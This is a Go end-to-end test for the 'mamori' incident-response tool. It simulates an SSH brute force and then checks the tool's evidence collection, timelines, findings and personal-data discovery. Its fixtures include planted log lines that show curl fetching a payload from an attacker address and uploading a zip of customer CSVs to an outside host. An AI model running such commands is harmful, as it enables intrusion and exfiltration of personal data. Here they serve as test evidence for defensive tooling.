package main

import (
	"archive/zip"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// TestIncidentInvestigationCommands drives mamori incident collect,
// timeline and findings against a mamori server process and two mamori
// agents on loopback: A is brute-forced over SSH, B is logged into from A,
// and on B a folder of customer CSVs is zipped and sent out with curl. The
// window and every file time are fixed, and the collection reads logs,
// files and archives only (not this machine's processes), so the outputs
// are golden once host, incident and path names are replaced.
func TestIncidentInvestigationCommands(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end fleet test")
	}
	root := t.TempDir()
	dir := filepath.Join(root, "data")
	url, _ := startServer(t, dir)
	caPath := filepath.Join(dir, "ca.pem")
	code, tok, errs := runCmd("user", "add", "--data", dir, "--name", "alice", "--role", "responder")
	if code != 0 {
		t.Fatalf("user add: %s", errs)
	}
	tokFile := filepath.Join(root, "alice.token")
	os.WriteFile(tokFile, []byte(tok), 0o600)

	day := time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)
	write := func(path, content string, at time.Time) string {
		t.Helper()
		os.MkdirAll(filepath.Dir(path), 0o755)
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Chtimes(path, at, at); err != nil {
			t.Fatal(err)
		}
		return path
	}
	// Syslog lines carry no year: the logs' dates (the next day) give it.
	logDate := day.Add(24 * time.Hour)
	var authA strings.Builder
	for i := range 6 {
		fmt.Fprintf(&authA, "Nov 20 03:1%d:0%d web-01 sshd[41%d]: Failed password for root from 203.0.113.66 port 5%d122 ssh2\n", i, i, i, i)
	}
	authA.WriteString("Nov 20 03:19:30 web-01 sshd[4200]: Accepted password for deploy from 203.0.113.66 port 51999 ssh2\n")
	authA.WriteString("Nov 20 03:25:00 web-01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/.x/agent http://203.0.113.66/a\n")
	logA := write(filepath.Join(root, "a", "log", "auth.log"), authA.String(), logDate)
	logB := write(filepath.Join(root, "b", "log", "auth.log"),
		"Nov 20 03:40:12 db-02 sshd[900]: Accepted publickey for deploy from 10.20.0.11 port 40222 ssh2\n", logDate)
	share := filepath.Join(root, "b", "share")
	var members []string
	for _, name := range []string{"2025.csv", "vip.csv"} {
		write(filepath.Join(share, "customers", name), "name,email\nYamada Taro,taro@example.jp\n", day.Add(4*time.Hour))
		members = append(members, "customers/"+name)
	}
	zipPath := filepath.Join(share, "c.zip")
	zf, err := os.Create(zipPath)
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(zf)
	for _, m := range members {
		w, _ := zw.Create(m)
		w.Write([]byte("name,email\n"))
	}
	zw.Close()
	zf.Close()
	os.Chtimes(zipPath, day.Add(4*time.Hour+time.Minute), day.Add(4*time.Hour+time.Minute))
	histB := write(filepath.Join(root, "b", "log", "bash_history"),
		fmt.Sprintf("#%d\ncurl -T %s https://198.51.100.9/upload\n", day.Add(4*time.Hour+2*time.Minute).Unix(), zipPath), logDate)

	enroll, err := os.ReadFile(filepath.Join(dir, "enroll.token"))
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	var wg sync.WaitGroup
	defer func() { cancel(); wg.Wait() }()
	agent := func(name, addr, scan string, logs ...string) {
		os.MkdirAll(scan, 0o755)
		args := []string{"agent", "--server", url, "--ca", caPath, "--enroll-token", strings.TrimSpace(string(enroll)),
			"--data", filepath.Join(root, name), "--name", name, "--labels", "addrs=" + addr, "--scan-path", scan}
		for _, l := range logs {
			args = append(args, "--log-path", l)
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			var out strings.Builder
			if code := run(ctx, args, io.Discard, &out); code != 0 && ctx.Err() == nil {
				t.Errorf("agent %s: exit %d: %s", name, code, out.String())
			}
		}()
	}
	agent("web-01", "10.20.0.11", filepath.Join(root, "a", "empty"), logA)
	agent("db-02", "10.20.0.12", share, logB, histB)

	roots := x509.NewCertPool()
	ca, _ := os.ReadFile(caPath)
	roots.AppendCertsFromPEM(ca)
	hc := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: roots}}}
	get := func(path string, out any) {
		t.Helper()
		req, _ := http.NewRequest("GET", url+"/api/v1"+path, nil)
		req.Header.Set("Authorization", "Bearer "+strings.TrimSpace(tok))
		resp, err := hc.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		if err := json.NewDecoder(resp.Body).Decode(out); err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
	}
	ids := map[string]string{}
	waitFor(t, "both agents online", func() bool {
		var hs []struct {
			ID     string `json:"id"`
			Name   string `json:"name"`
			Online bool   `json:"online"`
		}
		get("/hosts", &hs)
		for _, h := range hs {
			if h.Online {
				ids[h.Name] = h.ID
			}
		}
		return len(ids) == 2
	})

	api := func(args ...string) (int, string, string) {
		return runCmd(append([]string{"incident", args[0], "--server", url, "--ca", caPath, "--token", "@" + tokFile}, args[1:]...)...)
	}
	code, out, errs := api("open", "--title", "web-01 compromise", "--host", ids["web-01"], "--host", ids["db-02"], "--reason", "brute force alert")
	m := regexp.MustCompile(`^(i-[0-9a-f]{16}) `).FindStringSubmatch(out)
	if code != 0 || m == nil {
		t.Fatalf("open: %d\n%s%s", code, out, errs)
	}
	inc := m[1]
	// Names that change from run to run become fixed words.
	norm := func(s string) string {
		s = strings.NewReplacer(ids["web-01"], "HOST-A", ids["db-02"], "HOST-B", inc, "INCIDENT", root, "ROOT").Replace(s)
		s = regexp.MustCompile(`\bs-[0-9a-f]+\b`).ReplaceAllString(s, "COLLECTION")
		s = regexp.MustCompile(`\bf-[0-9a-f]{16}\b`).ReplaceAllString(s, "FINDING")
		// Row ids follow the order two agents' batches arrived in.
		return regexp.MustCompile(`"id":[0-9]+`).ReplaceAllString(s, `"id":N`)
	}

	code, out, errs = api("collect", inc, "--from", "2026-11-20T00:00:00Z", "--to", "2026-11-21T00:00:00Z",
		"--kind", "logs", "--kind", "files", "--kind", "archives", "--reason", "scope the intrusion")
	if code != 0 {
		t.Fatalf("collect: %d %s", code, errs)
	}
	golden(t, "investigate-collect.txt", norm(out))
	waitFor(t, "the collection done on both hosts", func() bool {
		var cs []struct {
			State string `json:"state"`
		}
		get("/incidents/"+inc+"/collections", &cs)
		return len(cs) == 1 && cs[0].State == "done"
	})

	for _, tc := range []struct {
		golden string
		args   []string
	}{
		{"investigate-timeline.txt", nil},
		{"investigate-timeline-b-files.txt", []string{"--host", ids["db-02"], "--kind", "file"}},
		{"investigate-timeline.csv", []string{"--format", "csv"}},
		{"investigate-timeline.jsonl", []string{"--format", "jsonl"}},
	} {
		code, out, errs := api(append([]string{"timeline", inc}, tc.args...)...)
		if code != 0 {
			t.Fatalf("timeline %v: %d %s", tc.args, code, errs)
		}
		golden(t, tc.golden, norm(out))
	}
	code, out, errs = api("findings", inc, "--analyze", "--reason", "first pass")
	if code != 0 {
		t.Fatalf("findings --analyze: %d %s", code, errs)
	}
	golden(t, "investigate-findings.txt", sortFindings(norm(out)))
	// Without --analyze the stored findings are listed as they are.
	code, again, errs := api("findings", inc)
	if diff := cmp.Diff(again, out); code != 0 || diff != "" {
		t.Errorf("findings: exit %d %s (-got +want):\n%s", code, errs, diff)
	}
	if code, _, errs := api("timeline", inc, "--format", "xml"); code != 2 || !strings.Contains(errs, `--format "xml"`) {
		t.Errorf("timeline --format xml: %d %s", code, errs)
	}

	// Personal-data discovery over the customer folder of B.
	code, out, errs = api("collect", inc, "--from", "2026-11-20T00:00:00Z", "--to", "2026-11-21T00:00:00Z", "--host", ids["db-02"],
		"--kind", "files", "--pii", "--path", filepath.Join(share, "customers"), "--reason", "who is affected")
	if code != 0 || !strings.Contains(out, ", with personal-data discovery (follow it with") {
		t.Fatalf("collect --pii: %d %s %s", code, out, errs)
	}
	type collection struct {
		PII   bool     `json:"pii"`
		Paths []string `json:"paths"`
		State string   `json:"state"`
	}
	var cs []collection
	waitFor(t, "the personal-data collection done", func() bool {
		get("/incidents/"+inc+"/collections", &cs)
		return len(cs) == 2 && cs[0].State == "done" && cs[1].State == "done"
	})
	var pii []collection
	for _, c := range cs {
		if c.PII {
			pii = append(pii, c)
		}
	}
	if diff := cmp.Diff(pii, []collection{{true, []string{filepath.Join(share, "customers")}, "done"}}); diff != "" {
		t.Errorf("collections with pii (-got +want):\n%s", diff)
	}
	if code, _, errs := api("collect", inc, "--from", "2026-11-20T00:00:00Z", "--path", "/srv", "--reason", "r"); code != 2 || !strings.Contains(errs, "field paths") {
		t.Errorf("collect --path without --pii: %d %s", code, errs)
	}
}

// sortFindings orders the findings of mamori incident findings' text by
// their text rather than by id, which is a hash of host ids.
func sortFindings(s string) string {
	var blocks []string
	lines := strings.SplitAfter(s, "\n")
	for _, l := range lines[:len(lines)-2] {
		if !strings.HasPrefix(l, " ") {
			blocks = append(blocks, "")
		}
		blocks[len(blocks)-1] += l
	}
	slices.Sort(blocks)
	return strings.Join(blocks, "") + lines[len(lines)-2]
}

// waitFor polls cond until it holds, failing after a minute.
func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(time.Minute)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(50 * time.Millisecond)
	}
}
